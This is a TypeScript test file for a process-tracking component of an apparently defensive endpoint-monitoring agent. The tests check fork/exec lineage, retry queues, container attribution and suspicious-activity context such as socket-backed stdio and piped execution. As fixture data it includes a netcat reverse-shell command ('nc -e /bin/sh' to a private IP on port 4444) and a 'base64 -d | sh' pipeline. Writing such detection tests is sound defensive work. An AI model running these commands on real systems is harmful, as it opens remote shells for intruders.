import { mkdirSync, mkdtempSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EcsEvent } from '../../agent/src/model/ecs-event';
import { ProcessModel, ProcessModelConfigError, type ProcessModelOptions, type VigilContext } from '../../agent/src/process';
import { T0, ev, exec, exit, fork, proc } from './make-event';

function model(opts: ProcessModelOptions = {}) {
  const clock = { now: T0 };
  const m = new ProcessModel({ procRoot: '/nonexistent-proc', cgroupRoot: false, clock: () => clock.now, ...opts });
  return { m, clock };
}

const ctx = (e: EcsEvent) => e.vigil.context as VigilContext;

/** init(1) -> bash(100) -> child(200), all known through fork/exec. */
function family(m: ProcessModel) {
  const init = proc(1, 0, 1);
  const bash = proc(100, 1, 50);
  const child = proc(200, 100, 90);
  m.ingest(exec(init, '/sbin/init', ['/sbin/init'], T0));
  m.ingest(fork(init, bash, T0 + 1));
  m.ingest(exec(bash, '/bin/bash', ['bash', '-l'], T0 + 2, '/root'));
  m.ingest(fork(bash, child, T0 + 3));
  return { init, bash, child };
}

describe('process lifecycle', () => {
  it('fork creates a child that inherits the parent image, exec replaces it', () => {
    const { m } = model();
    const { bash, child } = family(m);
    const [open] = m.ingest(ev(child, 'open', T0 + 4, { file: { path: '/etc/passwd' }, vigil: { flag_names: ['O_RDONLY'] } }));
    expect(open.process.executable).toBe('/bin/bash');
    expect(open.process.args).toEqual(['bash', '-l']);
    expect(open.process.command_line).toBe('bash -l');
    expect(open.process.working_directory).toBe('/root');
    expect(open.process.parent).toMatchObject({ pid: 100, entity_id: bash.id, executable: '/bin/bash', command_line: 'bash -l' });

    m.ingest(exec(child, '/usr/bin/curl', ['curl', 'http://x'], T0 + 5));
    const [conn] = m.ingest(ev(child, 'socket', T0 + 6));
    expect(conn.process.executable).toBe('/usr/bin/curl');
    expect(conn.process.entity_id).toBe(child.id);
    const entry = m.lookup(child.id)!;
    expect(entry.execCount).toBe(1);
    expect(entry.execHistory.map((h) => h.executable)).toEqual(['/bin/bash']);
  });

  it('exec keeps the entity id; a second exec is counted and the chain shows the latest image', () => {
    const { m } = model();
    const { init, bash, child } = family(m);
    m.ingest(exec(child, '/bin/sh', ['sh'], T0 + 5));
    m.ingest(exec(child, '/usr/bin/python3', ['python3', '-c', 'x'], T0 + 6));
    const gc = proc(300, 200, 95);
    m.ingest(fork(child, gc, T0 + 7));
    const [e] = m.ingest(ev(gc, 'socket', T0 + 8));
    expect(m.lookup(child.id)!.execCount).toBe(2);
    expect(e.process.ancestors).toEqual([
      { pid: 200, entity_id: child.id, executable: '/usr/bin/python3', args: ['python3', '-c', 'x'] },
      { pid: 100, entity_id: bash.id, executable: '/bin/bash', args: ['bash', '-l'] },
      { pid: 1, entity_id: init.id, executable: '/sbin/init', args: ['/sbin/init'] },
    ]);
  });

  it('a failed exec does not change the image', () => {
    const { m } = model();
    const { child } = family(m);
    const failed = exec(child, '/nope', ['nope'], T0 + 5);
    failed.event.outcome = 'failure';
    failed.vigil.ret = -2;
    m.ingest(failed);
    expect(m.lookup(child.id)!.executable).toBe('/bin/bash');
  });

  it('pid reuse produces a different entity and the pid index follows the new one', () => {
    const { m, clock } = model();
    const { bash, child } = family(m);
    m.ingest(exit(child, T0 + 10, 3));
    const reused = proc(200, 100, 5000);
    expect(reused.id).not.toBe(child.id);
    m.ingest(fork(bash, reused, T0 + 20));
    m.ingest(exec(reused, '/usr/bin/vim', ['vim'], T0 + 21));
    clock.now = T0 + 30;
    expect(m.lookup(child.id)).toMatchObject({ exitCode: 3, executable: '/bin/bash' });
    expect(m.lookup(reused.id)!.executable).toBe('/usr/bin/vim');
    const gc = proc(900, 200, 6000);
    m.ingest(fork(reused, gc, T0 + 40));
    expect(m.ancestors(gc.id)[0]).toMatchObject({ pid: 200, entity_id: reused.id, executable: '/usr/bin/vim' });
  });

  it('exited processes stay resolvable for the grace period, then are dropped', () => {
    const { m } = model({ exitGraceMs: 60_000 });
    const { child } = family(m);
    m.ingest(exit(child, T0 + 100));
    m.flushDue(T0 + 100 + 59_000);
    expect(m.lookup(child.id)?.exitedAtMs).toBe(T0 + 100);
    expect(m.stats()).toMatchObject({ exited: 1, expired: 0 });
    m.flushDue(T0 + 100 + 60_000);
    expect(m.lookup(child.id)).toBeUndefined();
    expect(m.stats()).toMatchObject({ exited: 0, expired: 1, size: 2 });
  });

  it('an exited parent stays while its child lives: the child execs 5 minutes later with the whole chain', () => {
    const { m, clock } = model({ exitGraceMs: 1000, sweepIntervalMs: 100 });
    const { init, bash, child } = family(m);
    const worker = proc(300, 200, 95);
    m.ingest(fork(child, worker, T0 + 10));
    m.ingest(exit(child, T0 + 20)); // the worker's parent dies (kill -9 of a daemon's master)
    m.ingest(exit(bash, T0 + 30));
    for (let t = T0 + 100; t <= T0 + 300_000; t += 1000) { clock.now = t; m.flushDue(t); } // 5 minutes of sweeps
    expect(m.stats()).toMatchObject({ exited: 2, pinned: 2, expired: 0 });
    const [e] = m.ingest(exec(worker, '/bin/sh', ['sh', '-i'], T0 + 300_000));
    expect(e.process.ancestors?.map((a) => [a.pid, a.entity_id])).toEqual([[200, child.id], [100, bash.id], [1, init.id]]);
    expect(e.process.parent).toMatchObject({ pid: 200, entity_id: child.id });

    // Once the worker is gone too, the whole dead chain is released, child first.
    m.ingest(exit(worker, T0 + 300_010));
    for (let t = T0 + 300_100; t <= T0 + 310_000; t += 100) { clock.now = t; m.flushDue(t); }
    for (const p of [worker, child, bash]) expect(m.lookup(p.id)).toBeUndefined();
    expect(m.stats()).toMatchObject({ exited: 0, pinned: 0, expired: 3 });
    expect(m.lookup(init.id)).toBeDefined();
  });

  it('the table is bounded and counts evictions', () => {
    const { m } = model({ maxProcesses: 10 });
    const init = proc(1, 0, 1);
    m.ingest(exec(init, '/sbin/init', ['init'], T0));
    for (let i = 0; i < 25; i++) m.ingest(fork(init, proc(1000 + i, 1, 10 + i), T0 + i));
    const s = m.stats();
    expect(s.size).toBe(10);
    expect(s.evicted).toBe(16);
    // init is touched by every fork, so it is never the least recently used.
    expect(m.lookup(init.id)).toBeDefined();
    expect(m.lookup(proc(1000, 1, 10).id)).toBeUndefined();
    expect(m.lookup(proc(1024, 1, 34).id)).toBeDefined();
  });

  it('thread forks do not create processes', () => {
    const { m } = model();
    const { bash } = family(m);
    const before = m.stats().size;
    m.ingest(ev(bash, 'fork', T0 + 9, { vigil: { child: { pid: 100, entity_id: bash.id }, thread: true } }));
    expect(m.stats().size).toBe(before);
  });
});

describe('retry queue', () => {
  it('holds events of an unknown process until its fork arrives, then releases them in order after the fork', () => {
    const { m, clock } = model();
    const { bash } = family(m);
    const kid = proc(500, 100, 200);
    expect(m.ingest(ev(kid, 'open', T0 + 10, { file: { path: '/a' } }))).toEqual([]);
    expect(m.ingest(ev(kid, 'open', T0 + 11, { file: { path: '/b' } }))).toEqual([]);
    // Another, known process is not held up.
    const other = m.ingest(ev(bash, 'socket', T0 + 12));
    expect(other).toHaveLength(1);
    clock.now += 50;
    const out = m.ingest(fork(bash, kid, T0 + 9));
    expect(out.map((e) => [e.event.action, e.file?.path])).toEqual([['fork', undefined], ['open', '/a'], ['open', '/b']]);
    expect(out[1].process.executable).toBe('/bin/bash');
    expect(out[1].process.parent.entity_id).toBe(bash.id);
    expect(m.stats()).toMatchObject({ waited: 2, pending: 0, releasedWithoutContext: 0 });
  });

  it('keeps per-process order: later events of a waiting process queue behind it', () => {
    const { m } = model();
    const { bash } = family(m);
    const kid = proc(501, 100, 201);
    m.ingest(ev(kid, 'open', T0 + 10, { file: { path: '/1' } }));
    m.ingest(ev(kid, 'open', T0 + 11, { file: { path: '/2' } }));
    m.ingest(exit(kid, T0 + 12));
    const out = m.ingest(fork(bash, kid, T0 + 9));
    expect(out.map((e) => e.event.action)).toEqual(['fork', 'open', 'open', 'exit']);
    expect(m.lookup(kid.id)?.exitedAtMs).toBe(T0 + 12);
  });

  it('releases with whatever context exists after the retry time and never drops', () => {
    const { m, clock } = model({ retryMs: 200 });
    family(m);
    const orphan = proc(600, 100, 300);
    m.ingest(ev(orphan, 'open', T0 + 10, { file: { path: '/x' } }));
    clock.now = T0 + 150;
    m.ingest(ev(orphan, 'open', T0 + 11, { file: { path: '/y' } }));
    expect(m.flushDue(T0 + 199)).toEqual([]);
    expect(m.nextDueInMs(T0 + 199)).toBe(1);
    const out = m.flushDue(T0 + 200);
    expect(out.map((e) => e.file?.path)).toEqual(['/x', '/y']);
    // No image known, but the parent (by pid) still fills.
    expect(out[0].process.executable).toBeUndefined();
    expect(out[0].process.parent).toMatchObject({ pid: 100, executable: '/bin/bash' });
    expect(out[0].process.ancestors!.map((a) => a.pid)).toEqual([100, 1]);
    expect(m.stats()).toMatchObject({ waited: 2, releasedWithoutContext: 2, pending: 0 });
    // Now known (bare entry): further events pass straight through.
    expect(m.ingest(ev(orphan, 'open', T0 + 300, { file: { path: '/z' } }))).toHaveLength(1);
    expect(m.nextDueInMs()).toBeUndefined();
  });

  it('an exec releases the waiting pre-exec events before itself', () => {
    const { m } = model();
    family(m);
    const p = proc(700, 100, 400);
    m.ingest(ev(p, 'dup-stdio', T0 + 10, { vigil: { dup: { oldfd: 3, newfd: 0, file_type: 'socket', family: 'AF_INET' } } }));
    const out = m.ingest(exec(p, '/bin/sh', ['sh', '-i'], T0 + 11));
    expect(out.map((e) => e.event.action)).toEqual(['dup-stdio', 'exec']);
    expect(ctx(out[1]).stdio_socket).toBe(true);
    expect(m.stats().releasedWithoutContext).toBe(1);
  });

  it('a full queue releases the oldest process early instead of growing', () => {
    const { m } = model({ maxPending: 3 });
    family(m);
    const a = proc(801, 100, 501);
    const b = proc(802, 100, 502);
    m.ingest(ev(a, 'socket', T0 + 1));
    m.ingest(ev(a, 'socket', T0 + 2));
    m.ingest(ev(b, 'socket', T0 + 3));
    const out = m.ingest(ev(b, 'socket', T0 + 4));
    expect(out.map((e) => e.process.pid)).toEqual([801, 801]);
    expect(m.stats()).toMatchObject({ pending: 2, releasedOverflow: 2 });
  });

  it('passes malformed events through and counts them', () => {
    const { m } = model();
    const bad = { event: { action: 'open' } } as unknown as EcsEvent;
    expect(m.ingest(bad)).toEqual([bad]);
    expect(m.stats().malformed).toBe(1);
  });
});

describe('vigil.context', () => {
  it('exec_written_ago_ms: time since the executable was written, created or renamed into', () => {
    const { m } = model();
    const { bash, child } = family(m);
    m.ingest(ev(bash, 'open', T0 + 1000, { file: { path: '/tmp/a' }, vigil: { flag_names: ['O_WRONLY', 'O_CREAT'] } }));
    m.ingest(ev(bash, 'open', T0 + 1500, { file: { path: '/tmp/ro' }, vigil: { flag_names: ['O_RDONLY'] } }));
    m.ingest(ev(bash, 'create', T0 + 1100, { file: { path: '/tmp/b' } }));
    m.ingest(ev(bash, 'rename', T0 + 1200, { file: { path: '/tmp/x.part', target_path: '/tmp/c' } }));
    m.ingest(ev(bash, 'open', T0 + 1300, { file: { path: '/tmp/d' }, vigil: { flag_names: ['O_RDWR'] }, outcome: 'failure' }));
    const run = (exe: string, at: number) => ctx(m.ingest(exec(child, exe, [exe], at))[0]).exec_written_ago_ms;
    expect(run('/tmp/a', T0 + 4000)).toBe(3000);
    expect(run('/tmp/b', T0 + 4000)).toBe(2900);
    expect(run('/tmp/c', T0 + 4000)).toBe(2800);
    expect(run('/tmp/x.part', T0 + 4000)).toBeUndefined();
    expect(run('/tmp/ro', T0 + 4000)).toBeUndefined();
    expect(run('/tmp/d', T0 + 4000)).toBeUndefined();
    // Who wrote it: the writer's executable from the process table (its file events do not carry one).
    const by = (exe: string, at: number) => ctx(m.ingest(exec(child, exe, [exe], at))[0]).exec_written_by;
    expect(by('/tmp/a', T0 + 5000)).toBe('/bin/bash');
    expect(by('/tmp/ro', T0 + 5000)).toBeUndefined();
  });

  it('stdio_socket from dup-stdio of an inet socket, inherited by fork, cleared by a non-socket dup', () => {
    const { m } = model();
    const { bash, child } = family(m);
    const dup = (p: typeof bash, newfd: number, file_type: string, family?: string, at = T0 + 10) =>
      m.ingest(ev(p, 'dup-stdio', at, { vigil: { dup: { oldfd: 5, newfd, file_type, family } } }))[0];
    expect(ctx(dup(child, 0, 'socket', 'AF_UNIX')).stdio_socket).toBe(false);
    expect(ctx(dup(child, 1, 'socket', 'AF_INET6')).stdio_socket).toBe(true);
    expect(ctx(dup(bash, 5, 'socket', 'AF_INET')).stdio_socket).toBe(false);
    const gc = proc(201, 200, 99);
    m.ingest(fork(child, gc, T0 + 11));
    const [gcExec] = m.ingest(exec(gc, '/bin/sh', ['sh'], T0 + 12));
    expect(ctx(gcExec).stdio_socket).toBe(true);
    expect(ctx(dup(child, 1, 'pipe', undefined, T0 + 13)).stdio_socket).toBe(false);
  });

  it('stdio_socket_accepted: every stdio socket was accepted (a CGI child), not when one was connected out', () => {
    const { m } = model();
    const { bash, child } = family(m);
    m.ingest(ev(bash, 'accept', T0 + 5, { vigil: { ret: 7 } }));
    const cgi = proc(300, 100, 120);
    m.ingest(fork(bash, cgi, T0 + 6));
    const dup = (p: typeof bash, oldfd: number, newfd: number, at: number) =>
      m.ingest(ev(p, 'dup-stdio', at, { vigil: { dup: { oldfd, newfd, file_type: 'socket', family: 'AF_INET' } } }))[0];
    dup(cgi, 7, 0, T0 + 7);
    const out = dup(cgi, 7, 1, T0 + 8);
    expect(ctx(out)).toMatchObject({ stdio_socket: true, stdio_socket_accepted: true });
    const [script] = m.ingest(exec(cgi, '/bin/bash', ['bash', 'status.sh'], T0 + 9));
    expect(ctx(script).stdio_socket_accepted).toBe(true);
    // A socket it connected itself, on stdout: not the server side any more.
    expect(ctx(dup(child, 5, 1, T0 + 10)).stdio_socket_accepted).toBeUndefined();
    expect(ctx(dup(cgi, 9, 2, T0 + 11)).stdio_socket_accepted).toBeUndefined();
  });

  it('pipeline: the shared pipe inode on one stdout and another stdin makes `base64 -d | sh` one pipeline, whichever execs last', () => {
    const { m } = model();
    const { bash } = family(m);
    const pipe = (p: typeof bash, newfd: number, inode: number, at: number) =>
      m.ingest(ev(p, 'dup-stdio', at, { vigil: { dup: { oldfd: 4, newfd, file_type: 'pipe', pipe_inode: inode } } }));
    // bash: echo X | base64 -d | sh. The shell forks all three; each dup2s, then execs.
    const [echo, dec, sh] = [proc(301, 100, 130), proc(302, 100, 131), proc(303, 100, 132)];
    for (const [i, p] of [echo, dec, sh].entries()) m.ingest(fork(bash, p, T0 + 20 + i));
    pipe(echo, 1, 7001, T0 + 30);
    pipe(dec, 0, 7001, T0 + 31);
    pipe(dec, 1, 7002, T0 + 32);
    pipe(sh, 0, 7002, T0 + 33);
    const [shExec] = m.ingest(exec(sh, '/usr/bin/dash', ['sh'], T0 + 40));
    // echo is a builtin: its member is the forked shell, with the shell's command line.
    expect(ctx(shExec).pipeline).toEqual({ command_lines: ['bash -l', 'bash -l', 'sh'], position: 2 });
    const [decExec] = m.ingest(exec(dec, '/usr/bin/base64', ['base64', '-d'], T0 + 41));
    expect(ctx(decExec).pipeline).toEqual({ command_lines: ['bash -l', 'base64 -d', 'sh'], position: 1 });
    // Exited members stay in the picture; a process with no pipe on its stdio has none.
    m.ingest(exit(dec, T0 + 42));
    const later = proc(304, 303, 133);
    m.ingest(fork(sh, later, T0 + 43));
    expect(ctx(m.ingest(exec(later, '/usr/bin/id', ['id'], T0 + 44))[0]).pipeline).toEqual({ command_lines: ['bash -l', 'base64 -d', 'id'], position: 2 });
    const [lone] = m.ingest(exec(proc(305, 100, 134), '/usr/bin/id', ['id'], T0 + 45));
    expect(ctx(lone).pipeline).toBeUndefined();
  });

  it('recent_outbound and outbound_peers: own or parent connects within 60 s', () => {
    const { m } = model();
    const { bash, child } = family(m);
    const connect = (p: typeof bash, ip: string, port: number, at: number, ret = 0) =>
      m.ingest(ev(p, 'connect', at, { destination: { ip, port }, network: { transport: 'tcp' }, vigil: { ret }, outcome: ret < 0 && ret !== -115 ? 'failure' : 'success' }));
    const [before] = m.ingest(ev(child, 'socket', T0 + 5));
    expect(ctx(before).recent_outbound).toBe(false);
    connect(bash, '10.0.0.9', 4444, T0 + 1000);
    connect(bash, '10.0.0.8', 80, T0 + 1001, -111);
    connect(bash, 'fe80::1', 443, T0 + 1002, -115);
    const [e1] = m.ingest(exec(child, '/bin/sh', ['sh'], T0 + 2000));
    expect(ctx(e1).recent_outbound).toBe(true);
    expect(ctx(e1).outbound_peers).toEqual(['10.0.0.9:4444', '[fe80::1]:443']);
    const [late] = m.ingest(ev(child, 'socket', T0 + 1002 + 60_001));
    expect(ctx(late).recent_outbound).toBe(false);
    expect(ctx(late).outbound_peers).toBeUndefined();
    // The grandparent's connects do not count.
    const gc = proc(202, 200, 98);
    connect(child, '10.1.1.1', 22, T0 + 70_000);
    m.ingest(fork(child, gc, T0 + 70_001));
    const [gcEv] = m.ingest(ev(gc, 'socket', T0 + 70_002));
    expect(ctx(gcEv).outbound_peers).toEqual(['10.1.1.1:22']);
  });

  it('recentActivity keeps the last 20 exec/file/net events as summaries', () => {
    const { m } = model();
    const { child } = family(m);
    m.ingest(exec(child, '/usr/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], T0 + 1));
    m.ingest(ev(child, 'connect', T0 + 2, { destination: { ip: '10.0.0.1', port: 4444 }, network: { transport: 'tcp' } }));
    for (let i = 0; i < 25; i++) m.ingest(ev(child, 'open', T0 + 10 + i, { file: { path: `/f${i}` }, vigil: { flag_names: ['O_RDONLY'] } }));
    m.ingest(exit(child, T0 + 100));
    const acts = m.recentActivity(child.id);
    expect(acts).toHaveLength(20);
    expect(acts[0].summary).toBe('open /f5 [O_RDONLY]');
    expect(acts[19].summary).toBe('open /f24 [O_RDONLY]');
    const fresh = proc(203, 200, 97);
    m.ingest(exec(fresh, '/usr/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], T0 + 1));
    m.ingest(ev(fresh, 'connect', T0 + 2, { destination: { ip: '10.0.0.1', port: 4444 }, network: { transport: 'tcp' } }));
    expect(m.recentActivity(fresh.id).map((a) => a.summary)).toEqual([
      'exec /usr/bin/nc -e /bin/sh 10.0.0.1 4444',
      'connect tcp 10.0.0.1:4444',
    ]);
  });
});

describe('container', () => {
  it('fills container.id/runtime from the event cgroup id; host processes get none', () => {
    const root = mkdtempSync(join(tmpdir(), 'vigil-cg-'));
    const id = 'c'.repeat(64);
    const scope = join(root, 'system.slice', `cri-containerd-${id}.scope`);
    mkdirSync(scope, { recursive: true });
    const ino = (p: string) => statSync(p, { bigint: true }).ino.toString();
    const { m } = model({ cgroupRoot: root });
    const { bash } = family(m);
    const [inside] = m.ingest(ev(bash, 'socket', T0 + 5, { cgroupId: ino(scope) }));
    expect(inside.container).toEqual({ id, runtime: 'containerd' });
    const [host] = m.ingest(ev(bash, 'socket', T0 + 6, { cgroupId: ino(root) }));
    expect(host.container).toBeUndefined();
  });
});

describe('options', () => {
  it('rejects bad configuration with a typed error', () => {
    expect(() => new ProcessModel({ retryMs: -1 })).toThrow(ProcessModelConfigError);
    expect(() => new ProcessModel({ maxProcesses: 0 })).toThrow(/maxProcesses must be a positive integer/);
  });
});

describe('bad input', () => {
  it('never throws: odd field types still come out, counted', () => {
    const { m } = model();
    const { bash } = family(m);
    const odd = ev(bash, 'open', T0 + 5, { file: { path: '/x' } });
    (odd.event as { category: unknown }).category = 'file';
    (odd.vigil as { flag_names: unknown }).flag_names = 'O_WRONLY';
    (odd as { '@timestamp': unknown })['@timestamp'] = 42;
    expect(m.ingest(odd)).toEqual([odd]);
    const worse = ev(bash, 'open', T0 + 6);
    (worse.process as { args: unknown }).args = 'not-an-array';
    expect(m.ingest(worse)).toHaveLength(1);
    expect(m.stats().enrichFailed).toBe(1);
    expect(m.ingest(ev(bash, 'socket', T0 + 7))[0].process.executable).toBe('/bin/bash');
  });
});
